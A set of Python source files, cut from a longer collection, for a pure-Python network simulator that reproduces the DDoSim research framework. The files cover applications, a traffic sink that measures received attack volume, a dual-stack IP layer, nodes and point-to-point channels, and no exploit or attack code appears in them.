                f"{record.time:.6f},{record.src},{record.dst},"
                f"{record.protocol},{record.src_port},{record.dst_port},"
                f"{record.size}"
            )
        return "\n".join(lines) + "\n"
