"""repro.netsim — a discrete-event network simulator (the NS-3 substitute).

DDoSim (the paper) builds on NS-3 3.37 for its simulated network and on
NS3DockerEmulator's TapBridge/ghost-node trick to splice Docker containers
into that network.  This package provides the equivalent substrate in pure
Python:

* :mod:`repro.netsim.simulator` — the event loop and virtual clock.
* :mod:`repro.netsim.process` — simpy-style coroutine processes so that
  "binaries" (shells, daemons, bots) can be written as straight-line code.
* :mod:`repro.netsim.address` — MAC / IPv4 / IPv6 addresses, multicast.
* :mod:`repro.netsim.packet` / :mod:`repro.netsim.headers` — packets with
  an NS-3-style header stack.
* :mod:`repro.netsim.netdevice`, :mod:`repro.netsim.channel`,
  :mod:`repro.netsim.queues` — point-to-point links with data-rate
  serialization, propagation delay and drop-tail queues.
* :mod:`repro.netsim.node`, :mod:`repro.netsim.ip` — nodes with a
  dual-stack (IPv4/IPv6) network layer, static routing, multicast groups.
* :mod:`repro.netsim.udp`, :mod:`repro.netsim.tcp`,
  :mod:`repro.netsim.sockets` — transports and a BSD-ish socket facade.
* :mod:`repro.netsim.application`, :mod:`repro.netsim.sink` — NS-3-style
  applications; ``PacketSink`` is the paper's customized TServer sink.
* :mod:`repro.netsim.tracing` — flow statistics (the Wireshark analogue).
"""

from repro.netsim.address import Ipv4Address, Ipv6Address, MacAddress
from repro.netsim.application import Application
from repro.netsim.channel import Channel, PointToPointChannel
from repro.netsim.headers import (
    EthernetHeader,
    Ipv4Header,
    Ipv6Header,
    TcpHeader,
    UdpHeader,
)
from repro.netsim.netdevice import NetDevice, PointToPointDevice
from repro.netsim.node import Node
from repro.netsim.packet import Packet
from repro.netsim.process import SimFuture, SimProcess, Timeout
from repro.netsim.queues import DropTailQueue
from repro.netsim.simulator import Simulator
from repro.netsim.sink import PacketSink
from repro.netsim.topology import StarInternet
from repro.netsim.tracing import FlowMonitor

__all__ = [
    "Application",
    "Channel",
    "DropTailQueue",
    "EthernetHeader",
    "FlowMonitor",
    "Ipv4Address",
    "Ipv4Header",
    "Ipv6Address",
    "Ipv6Header",
    "MacAddress",
    "NetDevice",
    "Node",
    "Packet",
    "PacketSink",
    "PointToPointChannel",
    "PointToPointDevice",
    "SimFuture",
    "SimProcess",
    "Simulator",
    "StarInternet",
    "TcpHeader",
    "Timeout",
    "UdpHeader",
]
