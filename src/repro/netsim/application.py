"""NS-3-style applications: start/stop lifecycle bound to a node."""

from __future__ import annotations

from typing import Optional

from repro.netsim.node import Node


class Application:
    """Base class mirroring NS-3's ``Application``.

    Subclasses override :meth:`_do_start` / :meth:`_do_stop`; scheduling the
    window is the caller's job via :meth:`schedule_start` /
    :meth:`schedule_stop`.
    """

    def __init__(self, node: Node, name: str = "app"):
        self.node = node
        self.sim = node.sim
        self.name = name
        self.running = False
        node.add_application(self)

    def schedule_start(self, at: float) -> None:
        self.sim.schedule_at(at, self.start)

    def schedule_stop(self, at: float) -> None:
        self.sim.schedule_at(at, self.stop)

    def start(self) -> None:
        if self.running:
            return
        self.running = True
        self._do_start()

    def stop(self) -> None:
        if not self.running:
            return
        self.running = False
        self._do_stop()

    def _do_start(self) -> None:
        raise NotImplementedError

    def _do_stop(self) -> None:
        """Default stop is a no-op beyond the running flag."""

    def __repr__(self) -> str:  # pragma: no cover - debug helper
        state = "running" if self.running else "stopped"
        return f"<{type(self).__name__} {self.name!r} on {self.node.name} {state}>"


class OnOffApplication(Application):
    """Benign constant-bit-rate UDP traffic with on/off periods.

    This is the "normal traffic" generator the paper's §V-A1 use case
    (training ML DDoS detectors on mixed benign/attack traffic) needs.
    """

    def __init__(
        self,
        node: Node,
        destination,
        dst_port: int,
        rate_bps: float,
        packet_size: int = 256,
        on_seconds: float = 5.0,
        off_seconds: float = 5.0,
        name: str = "onoff",
        src_port: Optional[int] = None,
    ):
        super().__init__(node, name)
        if rate_bps <= 0 or packet_size <= 0:
            raise ValueError("rate and packet size must be positive")
        self.destination = destination
        self.dst_port = dst_port
        self.rate_bps = rate_bps
        self.packet_size = packet_size
        self.on_seconds = on_seconds
        self.off_seconds = off_seconds
        self.src_port = src_port if src_port is not None else node.udp.allocate_ephemeral_port()
        self._interval = packet_size * 8.0 / rate_bps
        self._on = False
        self._pending_event = None
        self.packets_sent = 0

    def _do_start(self) -> None:
        self._enter_on_period()

    def _do_stop(self) -> None:
        if self._pending_event is not None:
            self._pending_event.cancel()
            self._pending_event = None

    def _enter_on_period(self) -> None:
        if not self.running:
            return
        self._on = True
        self._pending_event = self.sim.schedule(self.on_seconds, self._enter_off_period)
        self._send_next()

    def _enter_off_period(self) -> None:
        if not self.running:
            return
        self._on = False
        self._pending_event = self.sim.schedule(self.off_seconds, self._enter_on_period)

    def _send_next(self) -> None:
        if not self.running or not self._on:
            return
        self.node.udp.send_datagram(
            None,
            self.destination,
            self.dst_port,
            src_port=self.src_port,
            payload_size=self.packet_size,
        )
        self.packets_sent += 1
        self.sim.schedule(self._interval, self._send_next)
