"""The TServer packet sink.

The paper implements TServer as a customized NS-3 node whose sink
application "receives data packets from the compromised Devs and then logs
the overall size of the received data packets in each simulation run"
(§III-C) — i.e. it records attack magnitude.  :class:`PacketSink` does the
same: it captures every UDP datagram arriving at the node (promiscuous
across ports, like a sink behind Wireshark) and bins received bytes per
second, from which :mod:`repro.core.metrics` computes Eq. 2's average
received data rate.
"""

from __future__ import annotations

from collections import defaultdict
from typing import Dict, Optional, Tuple

from repro.netsim.application import Application
from repro.netsim.node import Node
from repro.obs.spans import NULL_SPANS


class PacketSink(Application):
    """Receives and accounts all UDP traffic reaching its node."""

    def __init__(self, node: Node, name: str = "tserver-sink", bin_width: float = 1.0):
        super().__init__(node, name)
        if bin_width <= 0:
            raise ValueError("bin width must be positive")
        self.bin_width = bin_width
        self.total_packets = 0
        self.total_bytes = 0
        #: received payload+header bytes per time bin (bin index -> bytes)
        self.bytes_per_bin: Dict[int, int] = defaultdict(int)
        #: per-source accounting: (address, port) -> (packets, bytes)
        self.per_source: Dict[Tuple[object, int], list] = {}
        #: NetFlow-style accounting: (src, src_port, dst_port) -> flow dict
        self.flows: Dict[Tuple[object, int, int], dict] = {}
        self.first_packet_time: Optional[float] = None
        self.last_packet_time: Optional[float] = None
        self._spans = NULL_SPANS
        #: per-FluidFlow quantization state: [byte_remainder, packet_remainder]
        self._fluid: Dict[object, list] = {}

    def _do_start(self) -> None:
        self._spans = self.sim.obs.spans
        self.node.udp.set_default_handler(self._on_datagram)
        # Fluid datapath endpoint: analytic flow arrivals are credited
        # here; sink availability is a rate-change epoch for the solver.
        self.node.fluid_sink = self
        flows = self.sim.flows
        if flows is not None:
            flows.on_link_change()

    def _do_stop(self) -> None:
        self.node.udp.set_default_handler(None)
        self.node.fluid_sink = None
        flows = self.sim.flows
        if flows is not None:
            flows.on_link_change()

    def _on_datagram(self, packet, udp_header, ip_header) -> None:
        # Wire size as seen by the node: payload + UDP + IP headers
        # (headers were popped on the way up; recompute their cost).
        size = packet.payload_size + udp_header.wire_size + type(ip_header).wire_size
        now = self.sim.now
        count = packet.count
        self.total_packets += count
        self.total_bytes += size * count
        if count == 1:
            first_arrival = now
            self.bytes_per_bin[int(now / self.bin_width)] += size
            if self.first_packet_time is None:
                self.first_packet_time = now
        else:
            # A train arrives as one event; reconstruct each member's
            # arrival so the rate bins stay exact.  When the last hop
            # stamped its serialization start and propagation delay,
            # replay the per-packet path's float-add chain verbatim
            # (start + spacing, member by member, + delay) — backward
            # arithmetic from ``now`` rounds differently and can drop a
            # member into the neighbouring bin.
            spacing = packet.spacing
            delay = packet.link_delay
            bins = self.bytes_per_bin
            width = self.bin_width
            if delay is not None and packet.tx_start is not None:
                t = packet.tx_start
                first_arrival = t + spacing + delay
                for member in range(count):
                    t += spacing
                    bins[int((t + delay) / width)] += size
            else:
                first_arrival = now - (count - 1) * spacing
                for member in range(count):
                    bins[int((first_arrival + member * spacing) / width)] += size
            if self.first_packet_time is None:
                self.first_packet_time = first_arrival
        self.last_packet_time = now
        key = (ip_header.src, udp_header.src_port)
        entry = self.per_source.get(key)
        if entry is None:
            self.per_source[key] = [count, size * count]
        else:
            entry[0] += count
            entry[1] += size * count
        flow_key = (ip_header.src, udp_header.src_port, udp_header.dst_port)
        flow = self.flows.get(flow_key)
        if flow is None:
            self.flows[flow_key] = {
                "dst": getattr(ip_header, "dst", None),
                "packets": count,
                "bytes": size * count,
                "t_first": first_arrival,
                "t_last": now,
                "span": packet.span,
            }
        else:
            flow["packets"] += count
            flow["bytes"] += size * count
            flow["t_last"] = now
        span = packet.span
        if span is not None:
            self._spans.deliver(span, count, size * count)

    # ------------------------------------------------------------------
    # Fluid datapath
    # ------------------------------------------------------------------
    def account_fluid(self, flow, nbytes: float, start: float, end: float) -> int:
        """Credit ``nbytes`` of a :class:`~repro.netsim.flows.FluidFlow`
        arriving uniformly over ``[start, end)``.

        Integrates the flow's byte-rate into the same per-second
        ``bytes_per_bin`` histogram, packet/byte totals, ``per_source``
        and NetFlow ``flows`` records the packet path fills.  Bins get
        integer bytes; fractional remainders persist per flow (in
        ``_fluid``) so totals are exact in expectation with zero drift.
        Returns the integer bytes credited by this call.
        """
        if nbytes <= 0.0:
            return 0
        state = self._fluid.get(flow)
        if state is None:
            state = self._fluid[flow] = [0.0, 0.0]
        width = self.bin_width
        bins = self.bytes_per_bin
        credited = 0
        if end <= start:
            # Instantaneous credit (residual backlog flush at flow stop).
            state[0] += nbytes
            whole = int(state[0])
            if whole:
                state[0] -= whole
                bins[int(start / width)] += whole
                credited = whole
        else:
            rate = nbytes / (end - start)
            t = start
            while t < end:
                bin_index = int(t / width)
                seg_end = (bin_index + 1) * width
                if seg_end > end:
                    seg_end = end
                state[0] += rate * (seg_end - t)
                whole = int(state[0])
                if whole:
                    state[0] -= whole
                    bins[bin_index] += whole
                    credited += whole
                t = seg_end
        if credited == 0:
            return 0
        size = flow.packet_size
        state[1] += credited / size
        packets = int(state[1])
        if packets:
            state[1] -= packets
        self.total_packets += packets
        self.total_bytes += credited
        if self.first_packet_time is None or start < self.first_packet_time:
            self.first_packet_time = start
        if self.last_packet_time is None or end > self.last_packet_time:
            self.last_packet_time = end
        key = (flow.src_address, flow.src_port)
        entry = self.per_source.get(key)
        if entry is None:
            self.per_source[key] = [packets, credited]
        else:
            entry[0] += packets
            entry[1] += credited
        flow_key = (flow.src_address, flow.src_port, flow.dst_port)
        record = self.flows.get(flow_key)
        if record is None:
            self.flows[flow_key] = {
                "dst": flow.dst_address,
                "packets": packets,
                "bytes": credited,
                "t_first": start,
                "t_last": end,
                "span": flow.span,
            }
        else:
            record["packets"] += packets
            record["bytes"] += credited
            record["t_last"] = end
        if flow.span is not None:
            self._spans.deliver(flow.span, packets, credited)
        return credited

    # ------------------------------------------------------------------
    # Analysis helpers
    # ------------------------------------------------------------------
    def bytes_received_between(self, start: float, end: float) -> int:
        """Total bytes in bins overlapping [start, end)."""
        if end <= start:
            return 0
        first = int(start / self.bin_width)
        last = int(end / self.bin_width)
        return sum(
            self.bytes_per_bin.get(index, 0) for index in range(first, last)
        )

    def rate_series_kbps(self, start: float, end: float):
        """Per-bin received rate (kbps) over [start, end) as a list."""
        first = int(start / self.bin_width)
        last = int(end / self.bin_width)
        factor = 8.0 / 1000.0 / self.bin_width
        return [
            self.bytes_per_bin.get(index, 0) * factor for index in range(first, last)
        ]

    def distinct_sources(self) -> int:
        """Number of distinct (address, port) senders seen."""
        return len(self.per_source)

    def flow_records(self) -> list:
        """NetFlow-style flow records, deterministically ordered.

        One record per (src, src_port, dst_port) with packet/byte totals,
        first/last arrival times, and the originating causal span ID
        (None when span tracking was off) — the schema
        :func:`repro.analysis.features.capture_records_from_flows`
        expands back into per-packet form for the feature extractor.
        """
        records = []
        ordered = sorted(
            self.flows.items(),
            key=lambda item: (str(item[0][0]), item[0][1], item[0][2]),
        )
        for (src, src_port, dst_port), flow in ordered:
            records.append({
                "src": str(src),
                "src_port": src_port,
                "dst": str(flow["dst"]) if flow["dst"] is not None else "",
                "dst_port": dst_port,
                "protocol": "udp",
                "packets": flow["packets"],
                "bytes": flow["bytes"],
                "t_first": flow["t_first"],
                "t_last": flow["t_last"],
                "span": flow["span"],
            })
        return records

    def checkpoint_state(self) -> dict:
        """Deterministic histogram/flow/quantizer state for checkpoint
        fingerprints (all dict iterations sorted by stable string keys)."""
        return {
            "bin_width": self.bin_width,
            "total_packets": self.total_packets,
            "total_bytes": self.total_bytes,
            "bins": sorted(
                [int(index), count] for index, count in self.bytes_per_bin.items()
            ),
            "per_source": sorted(
                [str(address), port, entry[0], entry[1]]
                for (address, port), entry in self.per_source.items()
            ),
            "flows": self.flow_records(),
            "first": self.first_packet_time,
            "last": self.last_packet_time,
            "fluid": sorted(
                [str(flow.src_address), flow.src_port, flow.dst_port,
                 state[0], state[1]]
                for flow, state in self._fluid.items()
            ),
        }

    def reset(self) -> None:
        """Clear all counters (used between experiment phases)."""
        self.total_packets = 0
        self.total_bytes = 0
        self.bytes_per_bin.clear()
        self.per_source.clear()
        self.flows.clear()
        self.first_packet_time = None
        self.last_packet_time = None
        self._fluid.clear()
