"""The TServer packet sink.

The paper implements TServer as a customized NS-3 node whose sink
application "receives data packets from the compromised Devs and then logs
the overall size of the received data packets in each simulation run"
(§III-C) — i.e. it records attack magnitude.  :class:`PacketSink` does the
same: it captures every UDP datagram arriving at the node (promiscuous
across ports, like a sink behind Wireshark) and bins received bytes per
second, from which :mod:`repro.core.metrics` computes Eq. 2's average
received data rate.
"""

from __future__ import annotations

from collections import defaultdict
from typing import Dict, Optional, Tuple

from repro.netsim.application import Application
from repro.netsim.node import Node
from repro.obs.spans import NULL_SPANS


class PacketSink(Application):
    """Receives and accounts all UDP traffic reaching its node."""

    def __init__(self, node: Node, name: str = "tserver-sink", bin_width: float = 1.0):
        super().__init__(node, name)
        if bin_width <= 0:
            raise ValueError("bin width must be positive")
        self.bin_width = bin_width
        self.total_packets = 0
        self.total_bytes = 0
        #: received payload+header bytes per time bin (bin index -> bytes)
        self.bytes_per_bin: Dict[int, int] = defaultdict(int)
        #: per-source accounting: (address, port) -> (packets, bytes)
        self.per_source: Dict[Tuple[object, int], list] = {}
        #: NetFlow-style accounting: (src, src_port, dst_port) -> flow dict
        self.flows: Dict[Tuple[object, int, int], dict] = {}
        self.first_packet_time: Optional[float] = None
        self.last_packet_time: Optional[float] = None
        self._spans = NULL_SPANS

    def _do_start(self) -> None:
        self._spans = self.sim.obs.spans
        self.node.udp.set_default_handler(self._on_datagram)

    def _do_stop(self) -> None:
        self.node.udp.set_default_handler(None)

    def _on_datagram(self, packet, udp_header, ip_header) -> None:
        # Wire size as seen by the node: payload + UDP + IP headers
        # (headers were popped on the way up; recompute their cost).
        size = packet.payload_size + udp_header.wire_size + type(ip_header).wire_size
        now = self.sim.now
        count = packet.count
        self.total_packets += count
        self.total_bytes += size * count
        if count == 1:
            first_arrival = now
            self.bytes_per_bin[int(now / self.bin_width)] += size
            if self.first_packet_time is None:
                self.first_packet_time = now
        else:
            # A train arrives as one event stamped with the last member's
            # time; reconstruct each member's arrival from the per-packet
            # serialization spacing so the rate bins stay exact.
            spacing = packet.spacing
            first_arrival = now - (count - 1) * spacing
            bins = self.bytes_per_bin
            width = self.bin_width
            for member in range(count):
                bins[int((first_arrival + member * spacing) / width)] += size
            if self.first_packet_time is None:
                self.first_packet_time = first_arrival
        self.last_packet_time = now
        key = (ip_header.src, udp_header.src_port)
        entry = self.per_source.get(key)
        if entry is None:
            self.per_source[key] = [count, size * count]
        else:
            entry[0] += count
            entry[1] += size * count
        flow_key = (ip_header.src, udp_header.src_port, udp_header.dst_port)
        flow = self.flows.get(flow_key)
        if flow is None:
            self.flows[flow_key] = {
                "dst": getattr(ip_header, "dst", None),
                "packets": count,
                "bytes": size * count,
                "t_first": first_arrival,
                "t_last": now,
                "span": packet.span,
            }
        else:
            flow["packets"] += count
            flow["bytes"] += size * count
            flow["t_last"] = now
        span = packet.span
        if span is not None:
            self._spans.deliver(span, count, size * count)

    # ------------------------------------------------------------------
    # Analysis helpers
    # ------------------------------------------------------------------
    def bytes_received_between(self, start: float, end: float) -> int:
        """Total bytes in bins overlapping [start, end)."""
        if end <= start:
            return 0
        first = int(start / self.bin_width)
        last = int(end / self.bin_width)
        return sum(
            self.bytes_per_bin.get(index, 0) for index in range(first, last)
        )

    def rate_series_kbps(self, start: float, end: float):
        """Per-bin received rate (kbps) over [start, end) as a list."""
        first = int(start / self.bin_width)
        last = int(end / self.bin_width)
        factor = 8.0 / 1000.0 / self.bin_width
        return [
            self.bytes_per_bin.get(index, 0) * factor for index in range(first, last)
        ]

    def distinct_sources(self) -> int:
        """Number of distinct (address, port) senders seen."""
        return len(self.per_source)

    def flow_records(self) -> list:
        """NetFlow-style flow records, deterministically ordered.

        One record per (src, src_port, dst_port) with packet/byte totals,
        first/last arrival times, and the originating causal span ID
        (None when span tracking was off) — the schema
        :func:`repro.analysis.features.capture_records_from_flows`
        expands back into per-packet form for the feature extractor.
        """
        records = []
        ordered = sorted(
            self.flows.items(),
            key=lambda item: (str(item[0][0]), item[0][1], item[0][2]),
        )
        for (src, src_port, dst_port), flow in ordered:
            records.append({
                "src": str(src),
                "src_port": src_port,
                "dst": str(flow["dst"]) if flow["dst"] is not None else "",
                "dst_port": dst_port,
                "protocol": "udp",
                "packets": flow["packets"],
                "bytes": flow["bytes"],
                "t_first": flow["t_first"],
                "t_last": flow["t_last"],
                "span": flow["span"],
            })
        return records

    def reset(self) -> None:
        """Clear all counters (used between experiment phases)."""
        self.total_packets = 0
        self.total_bytes = 0
        self.bytes_per_bin.clear()
        self.per_source.clear()
        self.flows.clear()
        self.first_packet_time = None
        self.last_packet_time = None
