"""The dual-stack (IPv4 + IPv6) network layer.

NS3DockerEmulator only supported IPv4; the paper reports adding IPv6
support throughout DDoSim because Dnsmasq's vulnerability lives in its
DHCPv6 module and exploit delivery needs IPv6 multicast.  This stack
handles both families uniformly: host addressing, static (host-route)
forwarding with TTL, multicast group membership on hosts, and
administratively scoped multicast fan-out on routers.
"""

from __future__ import annotations

from typing import TYPE_CHECKING, Callable, Dict, List, Optional, Set

from repro.netsim.address import Address, Ipv4Address, Ipv6Address
from repro.netsim.headers import (
    Header,
    Ipv4Header,
    Ipv6Header,
    PROTO_TCP,
    PROTO_UDP,
    ip_header_for,
)
from repro.netsim.netdevice import NetDevice
from repro.netsim.packet import Packet

if TYPE_CHECKING:  # pragma: no cover - typing only
    from repro.netsim.node import Node


class IpStack:
    """Per-node IP layer: addressing, routing, demux to transports."""

    def __init__(self, node: "Node"):
        self.node = node
        self.sim = node.sim
        self.addresses: Dict[Address, NetDevice] = {}
        self.device_addresses: Dict[NetDevice, List[Address]] = {}
        # Per-family primary-address cache: every send() that omits a
        # source resolves one, so don't rescan the address dict each time.
        self._primary: Dict[bool, Optional[Address]] = {}
        self.routes: Dict[Address, NetDevice] = {}
        self.default_device: Optional[NetDevice] = None
        self.forwarding = False
        self.multicast_groups: Set[Ipv6Address] = set()
        # Router-side multicast fan-out: group -> egress devices.
        self.multicast_routes: Dict[Ipv6Address, List[NetDevice]] = {}
        self._udp = None
        self._tcp = None
        # Hosts may register extra taps (e.g. FlowMonitor) on delivery.
        self.delivery_taps: List[Callable[[Packet, Header], None]] = []
        # Counters.
        self.delivered = 0
        self.forwarded = 0
        self.dropped_no_route = 0
        self.dropped_ttl = 0
        self.dropped_no_transport = 0

    # ------------------------------------------------------------------
    # Transports
    # ------------------------------------------------------------------
    @property
    def udp(self):
        if self._udp is None:
            from repro.netsim.udp import Udp

            self._udp = Udp(self)
        return self._udp

    @property
    def tcp(self):
        if self._tcp is None:
            from repro.netsim.tcp import Tcp

            self._tcp = Tcp(self)
        return self._tcp

    # ------------------------------------------------------------------
    # Addressing and routing
    # ------------------------------------------------------------------
    def add_address(self, device: NetDevice, address: Address) -> None:
        """Assign ``address`` to ``device`` on this node."""
        if address in self.addresses:
            raise ValueError(f"{self.node.name}: duplicate address {address}")
        self.addresses[address] = device
        self.device_addresses.setdefault(device, []).append(address)
        self._primary.clear()
        if self.default_device is None:
            self.default_device = device

    def primary_address(self, want_ipv6: bool = True) -> Optional[Address]:
        if want_ipv6 in self._primary:
            return self._primary[want_ipv6]
        family = Ipv6Address if want_ipv6 else Ipv4Address
        primary = None
        for address in self.addresses:
            if isinstance(address, family):
                primary = address
                break
        self._primary[want_ipv6] = primary
        return primary

    def add_route(self, destination: Address, device: NetDevice) -> None:
        """Install a host route: packets to ``destination`` leave ``device``."""
        self.routes[destination] = device

    def remove_route(self, destination: Address) -> None:
        self.routes.pop(destination, None)

    def set_default_device(self, device: NetDevice) -> None:
        self.default_device = device

    def join_multicast(self, group: Ipv6Address) -> None:
        """Host-side membership (e.g. dnsmasq joining ff02::1:2)."""
        if not group.is_multicast:
            raise ValueError(f"{group} is not a multicast group")
        self.multicast_groups.add(group)

    def leave_multicast(self, group: Ipv6Address) -> None:
        self.multicast_groups.discard(group)

    def add_multicast_route(self, group: Ipv6Address, devices: List[NetDevice]) -> None:
        """Router-side fan-out list for ``group``."""
        if not group.is_multicast:
            raise ValueError(f"{group} is not a multicast group")
        self.multicast_routes[group] = list(devices)

    def _egress_for(self, destination: Address) -> Optional[NetDevice]:
        device = self.routes.get(destination)
        if device is None:
            device = self.default_device
        return device

    # ------------------------------------------------------------------
    # Send path
    # ------------------------------------------------------------------
    def send(
        self,
        packet: Packet,
        destination: Address,
        protocol: int,
        source: Optional[Address] = None,
        ttl: int = 64,
    ) -> bool:
        """Stamp an IP header on ``packet`` and hand it to the egress device.

        Loopback (destination is one of our own addresses) is delivered
        immediately without touching any device — the C&C server telnets to
        itself in some configurations.
        """
        if source is None:
            source = self.primary_address(isinstance(destination, Ipv6Address))
            if source is None:
                raise RuntimeError(f"{self.node.name} has no address of the right family")
        header = ip_header_for(source, destination, protocol, ttl)
        packet.add_header(header)
        if destination in self.addresses:
            self.sim.schedule_now(self._deliver, packet, header)
            return True
        if isinstance(destination, Ipv6Address) and destination.is_multicast:
            return self._send_multicast(packet, header)
        device = self._egress_for(destination)
        if device is None:
            self.dropped_no_route += packet.count
            return False
        return device.send(packet)

    def _send_multicast(self, packet: Packet, header: Header) -> bool:
        """Originate a multicast packet: self-deliver if joined, then emit
        out the default device (the router fans it out further)."""
        if header.dst in self.multicast_groups:
            self.sim.schedule_now(self._deliver, packet.copy(), header)
        device = self._egress_for(header.dst)
        if device is None:
            self.dropped_no_route += packet.count
            return False
        return device.send(packet)

    # ------------------------------------------------------------------
    # Receive path
    # ------------------------------------------------------------------
    def receive(self, packet: Packet, ingress: NetDevice) -> None:
        header = packet.headers[-1] if packet.headers else None
        if not isinstance(header, (Ipv4Header, Ipv6Header)):
            return  # not IP; nothing above L2 is modelled on this node
        destination = header.dst
        if isinstance(destination, Ipv6Address) and destination.is_multicast:
            self._receive_multicast(packet, header, ingress)
            return
        if destination in self.addresses:
            self._deliver(packet, header)
            return
        if not self.forwarding:
            self.dropped_no_route += packet.count
            return
        self._forward(packet, header, ingress)

    def _receive_multicast(self, packet: Packet, header, ingress: NetDevice) -> None:
        delivered = False
        if header.dst in self.multicast_groups:
            self._deliver(packet, header)
            delivered = True
        if self.forwarding:
            fanout = self.multicast_routes.get(header.dst, [])
            for device in fanout:
                if device is ingress:
                    continue
                clone = packet.copy()
                self.forwarded += clone.count
                device.send(clone)
        elif not delivered:
            self.dropped_no_route += packet.count

    def _forward(self, packet: Packet, header, ingress: NetDevice) -> None:
        if header.ttl <= 1:
            self.dropped_ttl += packet.count
            return
        header.ttl -= 1
        device = self._egress_for(header.dst)
        if device is None or device is ingress:
            self.dropped_no_route += packet.count
            return
        self.forwarded += packet.count
        device.send(packet)

    def _deliver(self, packet: Packet, header) -> None:
        self.delivered += packet.count
        for tap in self.delivery_taps:
            tap(packet, header)
        packet.remove_header(type(header))
        protocol = header.protocol
        if protocol == PROTO_UDP:
            self.udp.receive(packet, header)
        elif protocol == PROTO_TCP:
            self.tcp.receive(packet, header)
        else:
            self.dropped_no_transport += packet.count
