"""Simulation nodes: hosts and routers.

A :class:`Node` owns net devices and a dual-stack IP layer with UDP and
TCP transports.  DDoSim's three component kinds all sit on nodes:

* Attacker / Devs — "ghost nodes" whose traffic originates from emulated
  containers bridged in via :mod:`repro.container.veth`;
* TServer — a plain NS-3-style node running the customized
  :class:`repro.netsim.sink.PacketSink` application.
"""

from __future__ import annotations

from typing import List, Optional

from repro.netsim.address import Address
from repro.netsim.ip import IpStack
from repro.netsim.netdevice import NetDevice
from repro.netsim.simulator import Simulator


class Node:
    """A host or router in the simulated network."""

    def __init__(self, sim: Simulator, name: str):
        self.sim = sim
        self.name = name
        self.devices: List[NetDevice] = []
        self.ip = IpStack(self)
        self.applications: list = []
        #: fluid-delivery endpoint (a started PacketSink registers itself
        #: here so the flow engine can credit analytic arrivals)
        self.fluid_sink = None

    def add_device(self, device: NetDevice) -> NetDevice:
        """Attach a net device to this node."""
        device.node = self
        self.devices.append(device)
        return device

    def add_application(self, application) -> None:
        self.applications.append(application)

    # Convenience accessors ------------------------------------------------
    @property
    def udp(self):
        """The node's UDP transport (created on first use)."""
        return self.ip.udp

    @property
    def tcp(self):
        """The node's TCP transport (created on first use)."""
        return self.ip.tcp

    def primary_address(self, want_ipv6: bool = True) -> Optional[Address]:
        """The node's first assigned address of the requested family."""
        return self.ip.primary_address(want_ipv6)

    def __repr__(self) -> str:  # pragma: no cover - debug helper
        return f"<Node {self.name} devs={len(self.devices)}>"
