"""Channels: the propagation media between net devices.

The experiment series models each component's Internet path ("home routers
and ISP switches ... fiber optics and WiFi") as *one* link with a given
latency and bandwidth (§III-D of the paper), so the workhorse here is the
full-duplex :class:`PointToPointChannel`.  The hardware-validation testbed
adds a shared WiFi medium in :mod:`repro.hardware.wifi` on top of the same
interfaces.
"""

from __future__ import annotations

from typing import TYPE_CHECKING, List, Optional

from repro.netsim.packet import Packet
from repro.netsim.simulator import Simulator

if TYPE_CHECKING:  # pragma: no cover - import cycle guard for typing only
    from repro.netsim.netdevice import NetDevice


class Channel:
    """Base channel: knows its simulator, delay, and attached devices."""

    def __init__(self, sim: Simulator, delay: float = 0.0):
        if delay < 0:
            raise ValueError("channel delay must be non-negative")
        self.sim = sim
        self.delay = delay
        self.devices: List["NetDevice"] = []

    def attach(self, device: "NetDevice") -> None:
        self.devices.append(device)
        device.channel = self

    def transmit(self, sender: "NetDevice", packet: Packet) -> None:
        raise NotImplementedError


class PointToPointChannel(Channel):
    """A full-duplex link between exactly two devices.

    Serialization delay lives in the sending device (it depends on the
    device's data rate); the channel only adds propagation delay.  An
    optional ``loss_rate`` models random medium loss (used by the hardware
    testbed's noisy wireless environment; the DDoSim Internet links keep
    the default of zero, losses there come from queue overflow).
    """

    def __init__(self, sim: Simulator, delay: float = 0.0, loss_rate: float = 0.0,
                 rng=None):
        super().__init__(sim, delay)
        if not 0.0 <= loss_rate < 1.0:
            raise ValueError("loss_rate must be in [0, 1)")
        self.loss_rate = loss_rate
        self._rng = rng
        self._base_delay = delay
        self._base_loss_rate = loss_rate
        self._base_rng = rng
        #: sharded-engine hook (repro.netsim.shard): when set, packets
        #: leaving this channel toward a remote shard are handed to the
        #: bridge instead of being scheduled locally.
        self.shard_bridge = None
        self.packets_carried = 0
        self.packets_lost = 0
        obs = sim.obs
        self._tracer = obs.tracer
        self._tx_packets = obs.metrics.counter(
            "link_tx_packets_total", help="packets carried by point-to-point links"
        )
        self._tx_bytes = obs.metrics.counter(
            "link_tx_bytes_total", help="bytes carried by point-to-point links"
        )
        self._loss_packets = obs.metrics.counter(
            "link_lost_packets_total", help="packets lost to random medium loss"
        )

    def attach(self, device: "NetDevice") -> None:
        if len(self.devices) >= 2:
            raise ValueError("point-to-point channel already has two devices")
        super().attach(device)

    def override_parameters(self, delay: Optional[float] = None,
                            loss_rate: Optional[float] = None,
                            rng=None) -> None:
        """Degrade the medium (fault injection): raise propagation delay
        and/or random loss until :meth:`clear_overrides`.  Star links are
        built lossless without an RNG, so a loss override must bring one.
        """
        if delay is not None:
            if delay < 0:
                raise ValueError("channel delay must be non-negative")
            self.delay = delay
        if loss_rate is not None:
            if not 0.0 <= loss_rate < 1.0:
                raise ValueError("loss_rate must be in [0, 1)")
            self.loss_rate = loss_rate
            if rng is not None:
                self._rng = rng
            if loss_rate > 0.0 and self._rng is None:
                raise ValueError("loss override on a channel with no RNG")
        self._notify_flows()

    def clear_overrides(self) -> None:
        self.delay = self._base_delay
        self.loss_rate = self._base_loss_rate
        self._rng = self._base_rng
        self._notify_flows()

    def _notify_flows(self) -> None:
        """Medium parameters changed: re-linearize any fluid flows."""
        flows = self.sim.flows
        if flows is not None:
            flows.on_link_change()

    def fluid_carry(self, count: int, nbytes: int, lost: int = 0) -> None:
        """Account analytically-carried flow packets (no scheduling).

        The fluid datapath computes carried/lost volumes in closed form;
        this feeds the same per-channel counters and metrics the packet
        path's :meth:`transmit` maintains.  Random loss becomes an exact
        fraction — no RNG draws are consumed, keeping the stream
        identical for any co-existing packet traffic.
        """
        if lost > 0:
            self.packets_lost += lost
            self._loss_packets.inc(lost)
        if count > 0:
            self.packets_carried += count
            self._tx_packets.inc(count)
            self._tx_bytes.inc(nbytes)

    def peer_of(self, device: "NetDevice") -> Optional["NetDevice"]:
        """The device at the other end of the link, if both are attached."""
        if len(self.devices) != 2:
            return None
        return self.devices[1] if self.devices[0] is device else self.devices[0]

    def transmit(self, sender: "NetDevice", packet: Packet) -> None:
        peer = self.peer_of(sender)
        if peer is None:
            raise RuntimeError("point-to-point channel is not fully wired")
        count = packet.count
